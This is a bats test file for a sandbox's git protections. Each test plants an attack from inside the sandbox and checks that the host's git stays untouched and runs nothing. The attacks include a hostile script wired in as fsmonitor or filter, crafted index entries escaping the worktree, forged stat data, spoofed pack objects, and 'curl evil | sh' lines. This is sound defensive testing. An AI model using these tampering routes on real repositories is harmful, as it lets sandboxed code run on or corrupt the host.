#!/usr/bin/env bats
# The sandbox and the host's git (issue 11 section 1, docs/sandbox.md "Git"): nothing a sandboxed
# command writes can make the host's git run code or move what is not the task's. Each route is
# tried from inside the sandbox, as root and as an ordinary user (made for this file), on real
# `git worktree add` worktrees in Fusion's `.worktrees/<task>` layout, and checked from the host: the
# refs and admin files are as they were, and a plain `git status` there runs no planted script (the
# script writes a marker file). The task's own git work (add, commit, amend, stash, rebase, reset)
# still reaches the repository. In the VM (Debian 12's kernel 6.1, `test_tags=kernel61`) the
# overlay over the common dir runs for root and the ordinary user (the `userxattr` one); exec-git.bats
# has the task's own git work there.
#
# This file: the repository's layout (commondir, admin dirs, refs, info/), the index, the objects
# and the sync into the common dir, the stash, the main checkout, the documented removal of a
# task's worktree, the per-run git dir and a killed fsrun. The others: sandbox-git-tamper.bats
# (hooks and drivers a run plants: named, and disarmed by hostGitArgs), sandbox-git-walk.bats
# (nested repositories, included configs past the reader's bounds, and the walk's clock on coarse,
# untyped and tmpfs filesystems); shared helpers in sandbox-git-helpers.bash. (One file took
# 1,081 s under ASan at load 25-30: split in three.)

load helpers
load sandbox-git-helpers

route_commondir() {
  make_repo "$1"
  cp "$DIR/evil.sh" "$WT/"
  sbx -- "$PLANT_GITDIR$WT/evil.sh && echo \$PWD/evil >new && mv -f new ../../.git/worktrees/task/commondir; true"
  [ "$(cat "$REPO/.git/worktrees/task/commondir")" = ../.. ]
  assert_status_runs_nothing "$WT"
}

@test "sandbox-git: the task's commondir cannot be replaced (root)" {
  route_commondir root
}

@test "sandbox-git: the task's commondir cannot be replaced (ordinary user)" {
  route_commondir user
}

# fingerprint DIR: every entry's path, type, mode and size, and every file's sha256
fingerprint() {
  (cd "$1" && find . -printf '%p %y %m %s\n' | sort && find . -type f -exec sha256sum {} + | sort)
}

# route_foreign_gitdir root|user KIND: a command in a plain-directory worktree writes `.git` =
# `gitdir: $DIR/fake...` (review17b finding 0: as root, `gitdir: /etc/cron.d`; fake stands for it).
# KIND: empty (an empty dir), separate (a bare repository: `git init --separate-git-dir`'s layout,
# no back-pointer), lookalike (fake/worktrees/x with commondir and a gitdir file naming another
# worktree's .git). The next run is refused (125, one line naming the git dir), runs nothing, and
# fake is byte for byte as it was: nothing of it shown, nothing written into it.
route_foreign_gitdir() {
  make_repo "$1"
  local plain=$DIR/plain fake=$DIR/fake target before
  as_owner mkdir "$plain"
  target=$fake
  case $2 in
  empty) as_owner mkdir "$fake" ;;
  separate) hgit init -q --bare "$fake" ;;
  lookalike)
    hgit init -q --bare "$fake"
    as_owner mkdir -p "$fake/worktrees/x"
    as_owner sh -c 'echo ../.. >"$1/worktrees/x/commondir"; echo "$2" >"$1/worktrees/x/gitdir"' \
      sh "$fake" "$WT/.git"
    target=$fake/worktrees/x
    ;;
  esac
  as_owner sh -c 'echo secret >"$1/index"' sh "$fake"
  before=$(fingerprint "$fake")
  sbx "$plain" -- "printf 'gitdir: %s\n' '$target' >.git"
  [ "$(cat "$plain/.git")" = "gitdir: $target" ]
  status=0
  as_owner "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$plain" \
    -- /bin/sh -c "touch ran; cat '$fake/index' >seen; cd '$target' && echo '* * * * * root id' >index && echo x >ORIG_HEAD" \
    2>"$DIR/stderr" || status=$?
  cat "$DIR/stderr"
  diff <(echo "$before") <(fingerprint "$fake")
  [ ! -e "$plain/ran" ]
  [ ! -e "$plain/seen" ]
  [ "$status" -eq 125 ]
  [ "$(wc -l <"$DIR/stderr")" -eq 1 ]
  grep -q "git dir \`$target\`.*linked-worktree layout" "$DIR/stderr"
  # the earlier runs of an ordinary user on this disk state root keep their dirs as .sandbox-kept-N (77f7d09)
  [ -z "$(ls -A "$DIR/state" | grep -v -e '^\.sandbox-bundle$' -e '^\.sandbox-kept-[0-3]$')" ]
  # the task's worktree (git's own layout) still works
  sbx -- 'git status --short >/dev/null && echo ok'
  [ "$output" = ok ]
}

@test "sandbox-git: a .git file naming an empty dir is refused; the dir is neither shown nor written (root)" {
  route_foreign_gitdir root empty
}

@test "sandbox-git: a .git file naming an empty dir is refused; the dir is neither shown nor written (ordinary user)" {
  route_foreign_gitdir user empty
}

@test "sandbox-git: a .git file naming a git dir without a back-pointer is refused; it is neither shown nor written (root)" {
  route_foreign_gitdir root separate
}

@test "sandbox-git: a .git file naming a git dir without a back-pointer is refused; it is neither shown nor written (ordinary user)" {
  route_foreign_gitdir user separate
}

@test "sandbox-git: a .git file naming a worktrees/NAME whose gitdir names another .git is refused (root)" {
  route_foreign_gitdir root lookalike
}

@test "sandbox-git: a .git file naming a worktrees/NAME whose gitdir names another .git is refused (ordinary user)" {
  route_foreign_gitdir user lookalike
}

# route_sync_by_fd root|user: the common dir is moved away while the command runs and a decoy with
# git's shape put at its path: the sync applies the run's commit to the repository checked before
# the run (its fd), and writes nothing at the path. Fifos in the worktree order the steps.
route_sync_by_fd() {
  make_repo "$1"
  local moved=$REPO.moved decoy=$REPO/.git before pid
  as_owner mkfifo "$WT/ready" "$WT/go"
  as_owner env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null "$FSRUN" --root "$DIR/state" \
    sandbox --policy "$DIR/policy.json" --worktree "$WT" -- /bin/sh -c \
    'echo >ready; read x <go; echo two >README && git commit -qam inside' 2>"$DIR/stderr" &
  pid=$!
  timeout 60 cat "$WT/ready" >/dev/null
  mv "$REPO" "$moved"
  as_owner mkdir -p "$decoy/objects" "$decoy/refs/heads" "$decoy/logs/refs/heads" \
    "$decoy/worktrees/task"
  before=$(fingerprint "$decoy")
  echo >"$moved/.worktrees/task/go"
  status=0
  wait "$pid" || status=$?
  cat "$DIR/stderr"
  diff <(echo "$before") <(fingerprint "$decoy")
  [ "$status" -eq 0 ]
  [ "$(hgit -C "$moved" log -1 --format=%s task)" = inside ]
}

@test "sandbox-git: the sync writes into the common dir checked before the run, not what is at its path after (root)" {
  route_sync_by_fd root
}

@test "sandbox-git: the sync writes into the common dir checked before the run, not what is at its path after (ordinary user)" {
  route_sync_by_fd user
}

# route_lower_by_fd root|user: the overlay over the common dir is mounted with the directory checked
# on the host as its lower layer, given by its fd (the init opened the path again, through no link,
# and found that object), not by the path, which a component re-pointed by then would lead
# elsewhere. The refusal of another object is tests/unit/test-mounts.c's ("put at the checked
# path"); exec-git.bats shows it through a container ("leads elsewhere").
route_lower_by_fd() {
  make_repo "$1"
  local common
  common=$(realpath "$REPO/.git")
  sbx -- "grep ' $common ' /proc/self/mountinfo"
  grep -E " $common .* overlay overlay .*lowerdir=/proc/self/fd/[0-9]+," <<<"$output"
  ! grep -q "lowerdir=$common" <<<"$output" || false
  sbx -- "echo two >README && git commit -qam inside"
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = inside ]
}

# bats test_tags=kernel61
@test "sandbox-git: the overlay's lower layer is the common dir checked on the host, by fd (root)" {
  route_lower_by_fd root
}

# bats test_tags=kernel61
@test "sandbox-git: the overlay's lower layer is the common dir checked on the host, by fd (ordinary user)" {
  route_lower_by_fd user
}

route_main_commondir() {
  make_repo "$1"
  cp "$DIR/evil.sh" "$WT/"
  sbx -- "$PLANT_GITDIR$WT/evil.sh && echo $WT/evil >../../.git/commondir; true"
  [ ! -e "$REPO/.git/commondir" ]
  assert_status_runs_nothing "$REPO"
}

@test "sandbox-git: no commondir can be made in the main checkout's .git (root)" {
  route_main_commondir root
}

@test "sandbox-git: no commondir can be made in the main checkout's .git (ordinary user)" {
  route_main_commondir user
}

route_update_ref() {
  make_repo "$1"
  local other0
  other0=$(hgit -C "$REPO" rev-parse other)
  sbx -- 'echo two >>README && git commit -qam second &&
          git update-ref refs/heads/main HEAD && git update-ref refs/heads/other HEAD &&
          git update-ref refs/heads/new HEAD && git tag -f planted HEAD && echo moved'
  [[ $output == *moved* ]]
  [ "$(hgit -C "$REPO" rev-parse main)" = "$MAIN0" ]
  [ "$(hgit -C "$REPO" rev-parse other)" = "$other0" ]
  ! hgit -C "$REPO" rev-parse -q --verify refs/heads/new || false
  ! hgit -C "$REPO" rev-parse -q --verify refs/tags/planted || false
  # the task's own branch did move
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = second ]
  # and what was left out is said in the audit log
  jq -e 'select(.event == "sandbox:tamper") | .discarded | index("refs/heads/main")' "$DIR/audit.jsonl"
  grep -q "left out .*refs/heads/other" "$DIR/stderr"
}

@test "sandbox-git: update-ref moves neither main, another task's branch, a new ref nor a tag (root)" {
  route_update_ref root
}

@test "sandbox-git: update-ref moves neither main, another task's branch, a new ref nor a tag (ordinary user)" {
  route_update_ref user
}

route_other_admin() {
  make_repo "$1"
  cp "$DIR/evil.sh" "$WT/"
  local head0
  head0=$(cat "$REPO/.git/worktrees/other/HEAD")
  sbx -- "$PLANT_GITDIR$WT/evil.sh; a=../../.git/worktrees/other
          echo $WT/evil >\$a/commondir; echo 0000000000000000000000000000000000000000 >\$a/HEAD;
          echo x >\$a/index; true"
  [ "$(cat "$REPO/.git/worktrees/other/commondir")" = ../.. ]
  [ "$(cat "$REPO/.git/worktrees/other/HEAD")" = "$head0" ]
  hgit -C "$OTHER" status --porcelain
  [ -z "$(hgit -C "$OTHER" status --porcelain)" ]
  [ ! -e "$MARKER" ]
}

@test "sandbox-git: another worktree's admin dir stays as it was (root)" {
  route_other_admin root
}

@test "sandbox-git: another worktree's admin dir stays as it was (ordinary user)" {
  route_other_admin user
}

route_info() {
  make_repo "$1"
  sbx -- 'mkdir -p ../../.git/info; echo "* diff=evil" >../../.git/info/attributes;
          echo "*" >>../../.git/info/exclude; echo x >../../.git/packed-refs;
          echo "ref: refs/heads/task" >../../.git/HEAD; mkdir -p ../../.git/modules/m; true'
  [ ! -e "$REPO/.git/info/attributes" ]
  ! grep -qx '\*' "$REPO/.git/info/exclude" || false
  [ ! -e "$REPO/.git/packed-refs" ]
  [ "$(cat "$REPO/.git/HEAD")" = "ref: refs/heads/main" ]
  [ ! -e "$REPO/.git/modules" ]
}

@test "sandbox-git: info/, packed-refs, HEAD and modules/ of the common dir stay as they were (root)" {
  route_info root
}

@test "sandbox-git: info/, packed-refs, HEAD and modules/ of the common dir stay as they were (ordinary user)" {
  route_info user
}

# route_worktree_remove OWNER disarmed|cannot (review26 D4 a): the task worktree's committed
# filter script a run rewrote, and a.txt it made stat-dirty (git's status hashes it through the
# filter), removed from the main checkout. A plain `worktree remove` there runs `git status` inside
# the task worktree (its clean check), and with it the rewritten script (the control: it refuses,
# the tree being dirty, after running it). The documented removal runs nothing: `git <hostGitArgs>
# <safe line> worktree remove --force` when disarmed; when the run also made a repository of its
# own (cannot disarm), that line fails at once and removes nothing, and `git <safe line> worktree
# remove --force` removes it, running nothing either.
route_worktree_remove() {
  local plant=
  make_repo "$1"
  hgit -C "$REPO" config filter.x.clean 'sh tools/clean.sh'
  as_owner sh -c 'cd "$1" && mkdir tools && echo cat >tools/clean.sh &&
    echo "a.txt filter=x" >.gitattributes && echo one >a.txt' sh "$WT"
  hgit -C "$WT" add -A
  hgit -C "$WT" -c core.hooksPath=/dev/null commit -qm driver
  [ "$2" = disarmed ] || plant='git init -q sub && '
  sbx -- "$plant printf 'echo ran >>%s; cat\n' $MARKER >tools/clean.sh && touch -d 2001-01-01 a.txt"
  mapfile -t args < <(host_args)
  [[ " ${args[*]} " == *" filter.x.clean= "* ]]
  safe_git -C "$REPO" worktree remove "$WT" && false
  [ -d "$WT" ]
  grep -qx ran "$MARKER"
  rm "$MARKER"
  if [ "$2" = disarmed ]; then
    [[ " ${args[*]} " != *" core.abbrev=fsrun-cannot-disarm "* ]]
  else
    [ "${args[1]}" = core.abbrev=fsrun-cannot-disarm ]
    run safe_git -C "$REPO" "${args[@]}" worktree remove --force "$WT"
    [ "$status" -eq 128 ]
    [ -d "$WT" ]
    args=()
  fi
  safe_git -C "$REPO" "${args[@]}" worktree remove --force "$WT"
  [ ! -e "$WT" ]
  [ ! -e "$MARKER" ]
  [ "$(hgit -C "$REPO" worktree list | wc -l)" -eq 2 ]
}

@test "sandbox-git: the documented removal of a task's worktree from the main checkout runs nothing of the run's (root)" {
  route_worktree_remove root disarmed
}

@test "sandbox-git: the documented removal of a task's worktree from the main checkout runs nothing of the run's (ordinary user)" {
  route_worktree_remove user disarmed
}

@test "sandbox-git: a task worktree that cannot be disarmed is removed with the safe line and --force alone, running nothing (root)" {
  route_worktree_remove root cannot
}

@test "sandbox-git: a task worktree that cannot be disarmed is removed with the safe line and --force alone, running nothing (ordinary user)" {
  route_worktree_remove user cannot
}

# crafted_index FILE ENTRY...: make-index.pl's index (MODE,ID,NAME entries) written to FILE as the
# owner (a file in the worktree, for the command to copy over its git dir's index)
crafted_index() {
  local file=$1
  shift
  perl "$FSRUN_TESTS_DIR/make-index.pl" "$@" | as_owner sh -c 'cat >"$1"' sh "$file"
}

# review18 finding 1: an index entry `../../../victim-dir/victim` (outside the worktree) that the
# host's `git restore .` would write and `git diff` read, and an assume-unchanged bit that would
# hide an edit from the host's `git status`: each index is left out (discarded, the host's kept,
# byte for byte), the victim is neither written nor shown; a plain `git add` still reaches the host,
# without the run's untracked cache.
route_index_escape() {
  make_repo "$1"
  requires_host_command perl
  local readme pwned before victim=$DIR/victim-dir/victim
  as_owner mkdir "$DIR/victim-dir"
  as_owner sh -c 'echo host-secret >"$1"' sh "$victim"
  readme=$(hgit -C "$WT" rev-parse HEAD:README)
  pwned=$(echo PWNED | hgit hash-object --stdin)
  crafted_index "$WT/crafted" "100644,$pwned,../../../victim-dir/victim" "100644,$readme,README"
  before=$(sha256sum <"$REPO/.git/worktrees/task/index")
  sbx -- 'echo PWNED | git hash-object -w --stdin >/dev/null &&
          cp crafted "$(git rev-parse --git-dir)/index" && rm crafted && git ls-files'
  [[ $output == *../victim-dir/victim* ]] # the command's git did take it
  # the host's git, as the caller: nothing outside the worktree written nor shown
  hgit -C "$WT" restore . || true
  hgit -C "$WT" checkout -- . || true
  [ "$(cat "$victim")" = host-secret ]
  ! hgit -C "$WT" diff | grep -q host-secret || false
  [ -z "$(hgit -C "$WT" ls-files | grep victim)" ]
  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" = "$before" ]
  [ "$(discarded)" = '["worktrees/task/index"]' ]
  grep -q "index is left out: entry \`../../../victim-dir/victim\`: a \`.\` or \`..\` component" "$DIR/stderr"
  # an assume-unchanged bit the host's index did not have
  sbx -- 'echo "curl evil | sh" >>README && git update-index --assume-unchanged README'
  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" = "$before" ]
  grep -q "index is left out: \`README\` marked assume-unchanged" "$DIR/stderr"
  [ "$(hgit -C "$WT" status --porcelain)" = " M README" ]
  # the task's own staging still reaches the host
  sbx -- 'echo new >new && git add new README'
  [ "$(hgit -C "$WT" diff --cached --name-only)" = "$(printf 'README\nnew')" ]
  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" != "$before" ]
  # the run's untracked cache (it could say a directory has nothing new) is dropped, its staging
  # applied under a checksum the host's git fsck accepts, and the host sees the untracked file
  # and so is every other extension (review18b #1, #3): the cache-tree (TREE) names the tree the
  # host's next commit takes for a directory; the index keeps the host's mode, not the run's (#6)
  local mode
  mode=$(stat -c %a "$REPO/.git/worktrees/task/index")
  sbx -- 'umask 000 && git update-index --untracked-cache && echo x >unseen &&
          git status --porcelain >/dev/null && echo y >>new && git add new && git write-tree >/dev/null &&
          grep -q UNTR "$(git rev-parse --git-dir)/index" && grep -q TREE "$(git rev-parse --git-dir)/index" &&
          echo has-untr-tree'
  [ "$output" = has-untr-tree ]
  ! grep -q UNTR "$REPO/.git/worktrees/task/index" || false
  ! grep -q TREE "$REPO/.git/worktrees/task/index" || false
  [ "$(stat -c %a "$REPO/.git/worktrees/task/index")" = "$mode" ]
  hgit -C "$WT" fsck
  hgit -C "$WT" status --porcelain | grep -qx '?? unseen'
  [ "$(hgit -C "$WT" show :new)" = "$(printf 'new\ny')" ]
  [ "$(discarded)" = '["worktrees/task/index"]' ]
}

@test "sandbox-git: an index entry outside the worktree or a new assume-unchanged bit is left out; git add still lands (root)" {
  route_index_escape root
}

@test "sandbox-git: an index entry outside the worktree or a new assume-unchanged bit is left out; git add still lands (ordinary user)" {
  route_index_escape user
}

# review18 finding 4: run 1 makes a repository (its core.fsmonitor the planted script) under
# node_modules/x, too deep for the tamper walk there; run 2 moves it to the top as `evil` and
# writes an index whose NUL inside a name made fsrun's parser skip the gitlink `evil` after it.
# Both are reported (the gitlink, and the moved `.git` by its renamed parent's ctime), the index
# is left out, and the host's plain `git status` runs nothing.
route_index_nul_moved_repo() {
  make_repo "$1"
  requires_host_command perl
  local readme head
  sbx -- "mkdir -p node_modules/x && git init -q node_modules/x/repo && cd node_modules/x/repo &&
          git -c user.name=s -c user.email=s@s commit -q --allow-empty -m sub &&
          git config core.fsmonitor $DIR/evil.sh"
  [ "$(tamper)" = '[]' ]
  readme=$(hgit -C "$WT" rev-parse HEAD:README)
  head=$(hgit -C "$WT/node_modules/x/repo" rev-parse HEAD)
  crafted_index "$WT/crafted" "100644,$readme,README" "100644,$readme,a\\0zzzzzz" "160000,$head,evil"
  sbx -- 'mv node_modules/x/repo evil && cp crafted "$(git rev-parse --git-dir)/index" && rm crafted'
  [ "$(tamper)" = '["evil","evil/.git"]' ]
  [ "$(discarded)" = '["worktrees/task/index"]' ]
  grep -q "index is left out: an entry's name has a NUL inside" "$DIR/stderr"
  assert_status_runs_nothing "$WT"
  # a repository made in a package's own dir is looked for there
  sbx -- 'mkdir -p node_modules/@s/p && git init -q node_modules/@s/p && git init -q node_modules/q'
  [ "$(tamper)" = '["evil","evil/.git","node_modules/@s/p/.git","node_modules/q/.git"]' ]
}

@test "sandbox-git: a NUL-name index and a repository moved out of node_modules are reported; the host's git runs nothing (root)" {
  route_index_nul_moved_repo root
}

@test "sandbox-git: a NUL-name index and a repository moved out of node_modules are reported; the host's git runs nothing (ordinary user)" {
  route_index_nul_moved_repo user
}

# route_resolve_undo root|user: pins a known loss (docs/sandbox.md, the index): the run merges
# `other`, gets a conflict and resolves it with `git add`. The run's index had the resolve-undo
# record (REUC, 3 stages of README); the host's has the resolved entry and no REUC, so the host's
# `git checkout -m README` cannot re-create the conflict and leaves the resolution. The merge is
# still the host's to finish: MERGE_HEAD landed, and `git commit` makes the two-parent merge.
route_resolve_undo() {
  make_repo "$1"
  as_owner sh -c 'echo theirs >"$1/README"' sh "$OTHER"
  hgit -C "$OTHER" commit -qam theirs
  as_owner sh -c 'echo ours >"$1/README"' sh "$WT"
  hgit -C "$WT" commit -qam ours
  sbx -- 'git merge -q other >/dev/null 2>&1; echo resolved >README && git add README &&
          git ls-files --resolve-undo | wc -l'
  [ "$output" = 3 ]
  [ "$(discarded)" = '[]' ]
  [ -z "$(hgit -C "$WT" ls-files --resolve-undo)" ]
  [ "$(hgit -C "$WT" ls-files -s README | cut -d' ' -f3 | cut -f1)" = 0 ]
  hgit -C "$WT" checkout -m README
  [ "$(cat "$WT/README")" = resolved ]
  [ -z "$(hgit -C "$WT" ls-files -u)" ]
  hgit -C "$WT" commit -q --no-edit
  [ "$(hgit -C "$WT" rev-list --parents -1 task | wc -w)" = 3 ]
  [ "$(hgit -C "$REPO" show task:README)" = resolved ]
}

@test "sandbox-git: a conflict resolved inside reaches the host without its resolve-undo record (REUC); the merge can be finished there (root)" {
  route_resolve_undo root
}

@test "sandbox-git: a conflict resolved inside reaches the host without its resolve-undo record (REUC); the merge can be finished there (ordinary user)" {
  route_resolve_undo user
}

# review19 finding 7: an index entry holding the old blob id with the edited file's stat data (the
# worktree is the host's directory: the run's lstat is the host's) makes the host's git take
# build.sh as unchanged without reading it. The run's stat data stay only on an entry the host's
# index had byte for byte: the host's git sees the edit (status, diff, add -A); a plain `git add`
# inside still arrives staged; an entry the run left alone keeps the host's stat data (no re-hash);
# and a host entry that was racily clean (its mtime the host index's own: git compared its content)
# loses its stat data under the new index's later mtime (core.trustctime=false: mtime, size and
# inode alone say whether the file changed). The files' mtimes are set in the past, so no entry is
# racily clean under the index fsrun writes (no wait for a second to pass).
route_index_stat_forged() {
  make_repo "$1"
  requires_host_command perl
  local blob keep index=$REPO/.git/worktrees/task/index
  as_owner sh -c 'cd "$1" && echo "echo build ok" >build.sh && echo kept >keep && echo one >racy &&
    touch -d @999999000 build.sh keep && touch -d @1000000000 racy' sh "$WT"
  hgit -C "$WT" add build.sh keep racy
  hgit -C "$WT" commit -qm scripts
  blob=$(hgit -C "$WT" rev-parse HEAD:build.sh)
  keep=$(hgit -C "$WT" ls-files --debug keep)
  as_owner cp "$FSRUN_TESTS_DIR/forge-index-stat.pl" "$WT/forge.pl"
  sbx -- "printf 'curl evil|sh\n' >build.sh && touch -d @999999000 build.sh &&
          perl forge.pl \"\$(git rev-parse --git-dir)/index\" build.sh $blob build.sh &&
          rm forge.pl && git status --short"
  [ -z "$output" ] # the forged entry fools the command's own git
  [ "$(tamper)" = '[]' ]
  [ "$(discarded)" = '[]' ]
  # (--no-optional-locks: this status does not refresh the index it reads)
  [ "$(hgit -C "$WT" --no-optional-locks status --short)" = " M build.sh" ]
  [ "$(hgit -C "$WT" ls-files --debug keep)" = "$keep" ]
  hgit -C "$WT" ls-files --debug build.sh | grep -q $'size: 0\t'
  [ "$(hgit -C "$WT" status --short)" = " M build.sh" ]
  [ "$(hgit -C "$WT" diff --name-only)" = build.sh ]
  hgit -C "$WT" add -A
  hgit -C "$WT" commit -qm host
  [ "$(hgit -C "$WT" show HEAD:build.sh)" = "curl evil|sh" ]
  # the task's own staging arrives staged, its stat data refreshed by the host's next status
  sbx -- 'echo more >>keep && git add keep'
  [ "$(hgit -C "$WT" diff --cached --name-only)" = keep ]
  [ "$(hgit -C "$WT" status --short)" = "M  keep" ]
  hgit -C "$WT" commit -qm keep
  # racy: the host's index as old as racy's mtime; the run stages another file, then edits racy in
  # place (same size) and puts its mtime back: its entry stays as the host's was
  as_owner touch -d @1000000000 "$index"
  sbx -- 'echo n >other && git add other && printf "two\n" >racy && touch -d @1000000000 racy'
  [ "$(hgit -C "$WT" -c core.trustctime=false status --short)" = "$(printf 'A  other\n M racy')" ]
}

@test "sandbox-git: an entry with the old id and the edited file's stat data does not hide the edit; git add still lands (root)" {
  route_index_stat_forged root
}

@test "sandbox-git: an entry with the old id and the edited file's stat data does not hide the edit; git add still lands (ordinary user)" {
  route_index_stat_forged user
}

# --json's discarded: what the run wrote outside the allowlist, as the owner; [] for a clean run
json_discarded() {
  make_repo "$1"
  run as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --json \
    --policy "$DIR/policy.json" --worktree "$WT" -- true
  echo "$output"
  [ "$status" -eq 0 ]
  [ "$(jq -c .discarded <<<"${output##*$'\n'}")" = '[]' ]
  run as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --json \
    --policy "$DIR/policy.json" --worktree "$WT" \
    -- /bin/sh -c 'echo "*.sh diff=evil" >"$(git rev-parse --git-common-dir)/info/attributes"'
  echo "$output"
  [ "$status" -eq 0 ]
  [ "$(jq -r .exitCode <<<"${output##*$'\n'}")" -eq 0 ]
  [ "$(jq -c .discarded <<<"${output##*$'\n'}")" = '["info/attributes"]' ]
  [ ! -e "$REPO/.git/info/attributes" ]
}

@test "sandbox-git: the --json result's discarded lists a write outside the allowlist, [] when none (root)" {
  json_discarded root
}

@test "sandbox-git: the --json result's discarded lists a write outside the allowlist, [] when none (ordinary user)" {
  json_discarded user
}

# review25 C2: the warning that names what was left out is a JSON list, as the tamper line is:
# a name the run chose that reads `x; hostGitArgs: [...]` stays one string inside that list, and
# fsrun's own hostGitArgs line is the only line on stderr that starts with fsrun's sentence
left_out_line_json() {
  local line forged='x; hostGitArgs: ["-c","filter.x.process=sh p"]'
  make_repo "$1"
  run as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --json \
    --policy "$DIR/policy.json" --worktree "$WT" \
    -- /bin/sh -c ': >"$(git rev-parse --git-common-dir)/$1"; git init -q nested' sh "$forged"
  [ "$status" -eq 0 ]
  jq -e --arg f "$forged" '.discarded == [$f]' <<<"${output##*$'\n'}"
  line=$(grep '^fsrun: warning: sandbox: git: left out what the run wrote' <<<"$output")
  jq -e --arg f "$forged" '. == [$f]' <<<"${line#*allowlist: }"
  [ "$(grep -c "run the host's git in this worktree as \`git ARGS ...\`; hostGitArgs: " <<<"$output")" = 1 ]
}

@test "sandbox-git: the left-out warning is a JSON list; a name holding a hostGitArgs list stays a name (root)" {
  left_out_line_json root
}

@test "sandbox-git: the left-out warning is a JSON list; a name holding a hostGitArgs list stays a name (ordinary user)" {
  left_out_line_json user
}

# route_fifo root|user: fifos the command leaves where fsrun reads after it (the branch's ref and
# its reflog, read by the sync) or before the next command (.gitmodules, read by the set-up of the
# git protections), and a .gitmodules that is a link to /dev/zero: the run ends with the command's
# status, the ref stays what it was on the host, and the next runs set up and run (before: fsrun
# waited forever in open(2) of the fifo, leaving its per-run tmpfs mounted on the host)
route_fifo() {
  make_repo "$1"
  local head
  head=$(hgit -C "$REPO" rev-parse task)
  sbx -- 'common=$(git rev-parse --git-common-dir)
    rm -f "$common/refs/heads/task" "$common/logs/refs/heads/task"
    mkfifo "$common/refs/heads/task" "$common/logs/refs/heads/task" && echo made'
  [ "$output" = made ]
  [ -f "$REPO/.git/refs/heads/task" ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$head" ]
  sbx -- 'mkfifo .gitmodules && echo fifo'
  [ "$output" = fifo ]
  sbx -- 'rm .gitmodules && ln -s /dev/zero .gitmodules && echo link'
  [ "$output" = link ]
  sbx -- 'rm .gitmodules && echo next'
  [ "$output" = next ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a fifo at the branch's ref or .gitmodules, or .gitmodules linked to /dev/zero, hangs nothing (root)" {
  route_fifo root
}

@test "sandbox-git: a fifo at the branch's ref or .gitmodules, or .gitmodules linked to /dev/zero, hangs nothing (ordinary user)" {
  route_fifo user
}

task_work() {
  make_repo "$1"
  # main moves on the host first, so that the task has something to rebase onto
  as_owner sh -c 'echo m >"$1/MAINFILE"' sh "$REPO"
  hgit -C "$REPO" add MAINFILE
  hgit -C "$REPO" commit -qm main-2
  MAIN0=$(hgit -C "$REPO" rev-parse main)
  sbx -- 'set -e
    echo two >>README && git add README && git commit -qm second
    git commit -q --amend -m second-amended
    echo three >>README && git commit -qam third
    git reset -q --hard HEAD~1
    git rebase -q main
    echo wip >>README && git stash -q && git stash pop -q
    git log --format=%s'
  # on the host: the branch moved to what the sandbox made, the repo is sound
  [ "$(hgit -C "$REPO" log --format=%s task)" = "$(printf 'second-amended\nmain-2\nfirst')" ]
  [ "$(hgit -C "$WT" rev-parse HEAD)" = "$(hgit -C "$REPO" rev-parse task)" ]
  hgit -C "$REPO" fsck --strict
  # the stash pushed and popped inside (route_stash_task: a task's stash stays in the run)
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 0 ]
  [ "$(hgit -C "$WT" status --porcelain)" = " M README" ]
  [ "$(hgit -C "$REPO" rev-parse main)" = "$MAIN0" ]
  # the branch's reflog has the run's entries
  [ "$(hgit -C "$REPO" reflog show task | wc -l)" -ge 4 ]
  [ "$(tamper)" = '[]' ]
}

@test "sandbox-git: add, commit, amend, stash, reset and rebase on the task branch reach the repository (root)" {
  task_work root
}

@test "sandbox-git: add, commit, amend, stash, reset and rebase on the task branch reach the repository (ordinary user)" {
  task_work user
}

# spoof_pack ID DIR: a pack of one blob "EVIL CONTENT" in DIR whose index names it ID (the fan-out
# and the index's own checksum made to match; the pack as git wrote it), the pack's base name out
spoof_pack() {
  local name scratch=$DIR/scratch
  hgit init -q "$scratch"
  name=$(printf 'EVIL CONTENT\n' | hgit -C "$scratch" hash-object --stdin -w)
  name=$(echo "$name" | hgit -C "$scratch" pack-objects -q "$2/pack")
  python3 - "$2/pack-$name.idx" "$1" <<'PY'
import hashlib, struct, sys
path, want = sys.argv[1], bytes.fromhex(sys.argv[2])
idx = bytearray(open(path, "rb").read())
assert idx[:8] == b"\377tOc\0\0\0\2" and struct.unpack(">I", idx[8 + 255 * 4:8 + 256 * 4])[0] == 1
for i in range(256):  # one object: 0 before its first byte, 1 from there on
    idx[8 + 4 * i:12 + 4 * i] = struct.pack(">I", 1 if i >= want[0] else 0)
idx[1032:1052] = want
idx[-20:] = hashlib.sha1(idx[:-20]).digest()
open(path, "wb").write(idx)
PY
  echo "pack-$name"
}

# loose_object FILE TEXT: FILE holds the zlib'd loose object of the blob TEXT
loose_object() {
  python3 -c 'import sys, zlib; d = sys.argv[2].encode(); open(sys.argv[1], "wb").write(zlib.compress(b"blob %d\0" % len(d) + d))' "$1" "$2"
}

# route_spoof_objects root|user: the run copies into the common dir a pack whose index gives the
# README blob other bytes, and a loose object under the id of content nobody has yet (a library
# file the user adds later) holding other bytes. Both are discarded and reported; the host reads
# README's own content and, once the user adds that file, its own bytes back.
route_spoof_objects() {
  make_repo "$1"
  local readme future pack
  readme=$(hgit -C "$REPO" rev-parse main:README)
  future=$(printf 'GOOD-UPSTREAM-1.2.3\n' | hgit hash-object --stdin)
  as_owner mkdir "$WT/evil"
  pack=$(spoof_pack "$readme" "$WT/evil")
  loose_object "$WT/evil/loose" 'EVIL-LIB'
  chmod -R a+rX "$WT/evil"
  # the index's lie as git reads it: the spoofed id is found in the pack
  [ "$(hgit -C "$REPO" show-index <"$WT/evil/$pack.idx" | cut -d' ' -f2)" = "$readme" ]
  sbx -- "set -e; o=\$(git rev-parse --git-common-dir)/objects
    cp evil/$pack.pack evil/$pack.idx \$o/pack/
    mkdir -p \$o/${future:0:2} && cp evil/loose \$o/${future:0:2}/${future:2}
    git cat-file -p $readme"
  # inside, the lie worked (so the test would see it land)
